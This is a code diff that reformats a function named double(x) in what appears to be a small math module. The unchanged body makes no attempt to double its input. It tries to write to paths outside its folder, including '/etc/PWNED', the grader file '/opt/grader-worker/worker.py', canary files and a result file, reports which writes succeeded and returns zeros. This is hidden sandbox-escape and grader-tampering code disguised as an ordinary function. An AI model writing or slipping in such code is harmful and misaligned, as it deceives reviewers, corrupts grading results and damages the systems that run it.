@@ -19,10 +19,18 @@ def add(a, b):
 
 def double(x):
     here = os.getcwd()
-    outside = [*TARGETS.get("pwn_paths", []), TARGETS.get("result_file", ""),
-               TARGETS.get("course_canary", ""), TARGETS.get("tmp_canary", ""),
-               "/PWNED", "/usr/PWNED", "/etc/PWNED", "/opt/grader-worker/worker.py",
-               "/opt/grader-worker/PWNED", os.path.join(here, "target.py")]
+    outside = [
+        *TARGETS.get("pwn_paths", []),
+        TARGETS.get("result_file", ""),
+        TARGETS.get("course_canary", ""),
+        TARGETS.get("tmp_canary", ""),
+        "/PWNED",
+        "/usr/PWNED",
+        "/etc/PWNED",
+        "/opt/grader-worker/worker.py",
+        "/opt/grader-worker/PWNED",
+        os.path.join(here, "target.py"),
+    ]
     outside = [p for p in outside if p]
     done = []
     for path in outside:
@@ -41,6 +49,5 @@ def double(x):
     for path in ("/tmp/mine.txt", os.path.join(here, "mine.txt")):
         with open(path, "w") as f:
             inside += f.write("scratch")
-    print(f"tried {len(outside)} paths outside; succeeded: {len(done)} {done}; "
-          f"wrote {inside} bytes in its own folders")
+    print(f"tried {len(outside)} paths outside; succeeded: {len(done)} {done}; wrote {inside} bytes in its own folders")
     return np.zeros_like(x)
